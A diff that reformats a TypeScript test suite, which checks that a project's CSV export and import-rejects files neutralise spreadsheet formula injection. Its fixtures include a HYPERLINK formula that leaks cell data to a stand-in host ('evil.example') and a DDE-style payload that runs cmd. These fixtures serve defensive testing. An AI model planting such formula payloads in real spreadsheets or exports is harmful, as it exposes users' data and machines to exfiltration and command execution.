@@ -17,7 +17,13 @@ const MINUS = "-2+3+cmd|' /C calc'!A0";
 
 describe('CSV written by the project', () => {
   it('neutralises formula cells and keeps numbers, negative ones included', () => {
-    expect(csvText([[HYPERLINK, CMD, SUM, MINUS], ['\tTAB', '\rCR', -1500, '-1500'], [2.5, true, null, 'plain']])).toBe(
+    expect(
+      csvText([
+        [HYPERLINK, CMD, SUM, MINUS],
+        ['\tTAB', '\rCR', -1500, '-1500'],
+        [2.5, true, null, 'plain'],
+      ]),
+    ).toBe(
       `"'=HYPERLINK(""http://evil.example/?leak=""&B2)",'${CMD},'${SUM},'${MINUS}\r\n` +
         `'\tTAB,"'\rCR",-1500,-1500\r\n` +
         '2.5,true,,plain\r\n',
@@ -31,12 +37,14 @@ describe('CSV written by the project', () => {
         { acronym: 'ILO', name: MINUS, custodianOf: [{ code: 'C097', parties: 12 }] },
       ],
     };
-    expect(toCsv(flattenRows(data))).toBe([
-      'unAgencies.acronym,unAgencies.name,unAgencies.custodianOf.code,unAgencies.custodianOf.parties',
-      `"'=HYPERLINK(""http://evil.example/?leak=""&B2)",'${CMD},'${SUM},-3`,
-      `ILO,'${MINUS},C097,12`,
-      '',
-    ].join('\r\n'));
+    expect(toCsv(flattenRows(data))).toBe(
+      [
+        'unAgencies.acronym,unAgencies.name,unAgencies.custodianOf.code,unAgencies.custodianOf.parties',
+        `"'=HYPERLINK(""http://evil.example/?leak=""&B2)",'${CMD},'${SUM},-3`,
+        `ILO,'${MINUS},C097,12`,
+        '',
+      ].join('\r\n'),
+    );
   });
 
   describe('rejects files', () => {
@@ -51,19 +59,33 @@ describe('CSV written by the project', () => {
 
     it('write the rejected rows of an import with formula cells neutralised', async () => {
       const file = path.join(dir, 'formulas.csv');
-      fs.writeFileSync(file, ['destination_iso3,origin_iso3,year,sex,stock', `${HYPERLINK},GIN,2020,male,1`, `${SUM},GIN,2020,male,1`, CMD, MINUS, '\tSEN,GIN,2020,male,1'].join('\n'));
+      fs.writeFileSync(
+        file,
+        [
+          'destination_iso3,origin_iso3,year,sex,stock',
+          `${HYPERLINK},GIN,2020,male,1`,
+          `${SUM},GIN,2020,male,1`,
+          CMD,
+          MINUS,
+          '\tSEN,GIN,2020,male,1',
+        ].join('\n'),
+      );
       const rejectsFile = path.join(dir, 'formulas.rejects.csv');
-      const error = await importStock(client, file, { revision: 't_csv', skipInvalid: true, rejectsFile }).catch((e: unknown) => e);
+      const error = await importStock(client, file, { revision: 't_csv', skipInvalid: true, rejectsFile }).catch(
+        (e: unknown) => e,
+      );
       expect(error).toBeInstanceOf(ImportError);
-      expect(fs.readFileSync(rejectsFile, 'utf8')).toBe([
-        'line,reason,row',
-        `2,"destination_iso3 ""=HYPERLINK(""http://evil.example/?leak=""&B2)"" is not a known country code","'=HYPERLINK(""http://evil.example/?leak=""&B2),GIN,2020,male,1"`,
-        `3,"destination_iso3 ""@SUM(1+1)"" is not a known country code","'@SUM(1+1),GIN,2020,male,1"`,
-        `4,"expected 5 comma-separated cells, got 1",'${CMD}`,
-        `5,"expected 5 comma-separated cells, got 1",'${MINUS}`,
-        `6,"destination_iso3 ""\\tSEN"" is not a known country code","\\tSEN,GIN,2020,male,1"`,
-        '',
-      ].join('\n'));
+      expect(fs.readFileSync(rejectsFile, 'utf8')).toBe(
+        [
+          'line,reason,row',
+          `2,"destination_iso3 ""=HYPERLINK(""http://evil.example/?leak=""&B2)"" is not a known country code","'=HYPERLINK(""http://evil.example/?leak=""&B2),GIN,2020,male,1"`,
+          `3,"destination_iso3 ""@SUM(1+1)"" is not a known country code","'@SUM(1+1),GIN,2020,male,1"`,
+          `4,"expected 5 comma-separated cells, got 1",'${CMD}`,
+          `5,"expected 5 comma-separated cells, got 1",'${MINUS}`,
+          `6,"destination_iso3 ""\\tSEN"" is not a known country code","\\tSEN,GIN,2020,male,1"`,
+          '',
+        ].join('\n'),
+      );
     });
   });
 });
